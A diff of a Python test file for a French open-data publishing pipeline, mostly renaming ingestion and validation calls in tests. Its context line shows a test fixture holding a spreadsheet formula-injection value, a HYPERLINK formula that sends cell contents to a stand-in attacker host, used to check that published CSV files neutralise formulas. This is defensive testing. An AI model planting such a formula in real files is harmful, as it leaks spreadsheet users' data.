@@ -92,7 +92,7 @@ MALICIOUS = {"nom": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
 def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
     from conftest import REFERENCE_RUN
 
-    from pipeline.ingest import process_file
+    from pipeline.ingest.flow import process_files
     from publish.site import publish
 
     venue = {"id": "lieu-formules", "pivot": "21910477700019", "commune": "Palaiseau",
@@ -107,7 +107,7 @@ def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
     path = data_dir / "inbox" / "agglo-lieux" / "lieux_formules.csv"
     path.parent.mkdir(parents=True)
     path.write_text(buffer.getvalue(), encoding="utf-8")
-    assert process_file("agglo-lieux", str(path)).status != "rejete"
+    assert process_files([("agglo-lieux", str(path))])[0].status != "rejete"
     build = Path(publish(REFERENCE_RUN).path)
 
     (row,) = csv.DictReader(io.StringIO(read(build, "donnees/lieux.csv")))
@@ -163,7 +163,7 @@ def test_partner_guide_and_templates_come_from_the_contracts(site):
 
 def test_templates_are_accepted_as_they_are(data_dir):
     """The example row of each template passes its own contract (and so the guide is right)."""
-    from pipeline.check.validation import validate
+    from pipeline.check.validation import validate_many
     from pipeline.contracts.datasets import CONTRACTS
     from pipeline.contracts.templates import template_csv
     from pipeline.read.reading import read_partner_file
@@ -172,8 +172,8 @@ def test_templates_are_accepted_as_they_are(data_dir):
         path = data_dir / f"{contract.dataset}.csv"
         path.write_bytes(template_csv(contract))
         read = read_partner_file(path, contract)
-        errors = [p for p in validate(read, contract, ["91477", "91377", "91471"])
-                  if p.severity == "erreur"]
+        found = validate_many([(read, contract, "partenaire", ["91477", "91377", "91471"])])[0]
+        errors = [p for p in found if p.severity == "erreur"]
         assert errors == [], (contract.dataset, errors)
 
 
@@ -208,7 +208,7 @@ def test_workshop_page_and_printable_poster(site):
 def test_workshops_whose_ids_differ_only_in_case_or_punctuation_get_their_own_pages(data_dir):
     from conftest import REFERENCE_RUN
 
-    from pipeline.ingest import process_file
+    from pipeline.ingest.flow import process_files
     from publish.site import publish
 
     header = ("identifiant_seance;commune;lieu;adresse;date;heure_debut;duree_minutes;"
@@ -220,7 +220,7 @@ def test_workshops_whose_ids_differ_only_in_case_or_punctuation_get_their_own_pa
     path.write_text(header + "".join(
         f"{key};91477;Médiathèque;1 rue de Paris;{day};10h;60;{topic};Seniors;10;2;;Prévue;"
         "Mairie\n" for key, day, topic in sessions), encoding="utf-8")
-    assert process_file("ville-palaiseau", str(path)).rows_loaded == 2
+    assert process_files([("ville-palaiseau", str(path))])[0].rows_loaded == 2
     build = Path(publish(REFERENCE_RUN).path)
 
     pages = sorted(build.glob("ateliers/*/index.html"))
